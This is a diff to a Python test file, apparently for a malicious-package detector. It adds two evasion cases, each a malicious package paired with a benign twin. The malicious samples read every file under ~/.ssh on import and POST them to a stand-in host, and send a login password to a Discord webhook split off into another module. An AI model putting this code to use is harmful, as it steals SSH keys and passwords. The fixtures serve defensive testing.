@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from tests.evasions.sample import MALICIOUS, SUSPICIOUS, Evasion, Files, evasion
+from tests.evasions.sample import INIT, MALICIOUS, SUSPICIOUS, Evasion, Files, evasion
 
 _GET = "import os, subprocess, requests\nopen('/tmp/upd', 'wb').write(requests.get('https://stage.example.invalid/a').content)\n"
 _MAKE = "import os, subprocess\nopen('build/gen.h', 'w').write('#define A 1')\n"
@@ -166,5 +166,38 @@ CASES = (
             "setup.py": "from setuptools import setup\nsetup(name='example-pkg', install_requires=['requests'], url='https://www.example.com/')\n"
         },
         SUSPICIOUS,
+    ),
+    evasion(
+        "collector, reporter and what joins them, each a class in a module of its own",
+        {
+            INIT: "from .core import Agent\nAgent().run()\n",
+            "example_pkg/core.py": "from .collect import Collector\nfrom .report import Reporter\nclass Agent:\n    def __init__(self):\n"
+            "        self.c = Collector()\n        self.r = Reporter()\n    def run(self):\n        self.r.send(self.c.all())\n",
+            "example_pkg/collect.py": "import glob, os\nclass Collector:\n    def all(self):\n"
+            "        return {p: open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/*'))}\n",
+            "example_pkg/report.py": "import requests\nclass Reporter:\n    URL = 'https://hook.example.invalid/r'\n    def send(self, d):\n"
+            "        requests.post(self.URL, json=d)\n",
+        },
+        {
+            INIT: "from .core import Agent\n",
+            "example_pkg/core.py": "from .collect import Collector\nfrom .report import Reporter\nclass Agent:\n    def __init__(self, url):\n"
+            "        self.c = Collector()\n        self.r = Reporter(url)\n    def run(self):\n        self.r.get(self.c.known())\n",
+            "example_pkg/collect.py": "import os\nclass Collector:\n    def known(self):\n        return os.path.exists(os.path.expanduser('~/.ssh/known_hosts'))\n",
+            "example_pkg/report.py": "import requests\nclass Reporter:\n    def __init__(self, url):\n        self.url = url\n    def get(self, d):\n"
+            "        return requests.get(self.url).json()\n",
+        },
+    ),
+    evasion(
+        "the hook that a caller's password goes to stands in another module",
+        {
+            INIT: "import requests\nfrom .places import HOOK\nclass Client:\n    def login(self, user, password):\n"
+            "        requests.post('https://api.example.com/login', data={'u': user, 'p': password})\n        requests.post(HOOK, json={'content': user + password})\n",
+            "example_pkg/places.py": f"HOOK = 'https://discord.com/api/webhooks/{'1' * 18}/{'a' * 60}'\n",
+        },
+        {
+            INIT: "import requests\nfrom .places import LOGIN\nclass Client:\n    def login(self, user, password):\n"
+            "        requests.post(LOGIN, data={'u': user, 'p': password})\n",
+            "example_pkg/places.py": "LOGIN = 'https://api.example.com/login'\n",
+        },
     ),
 )
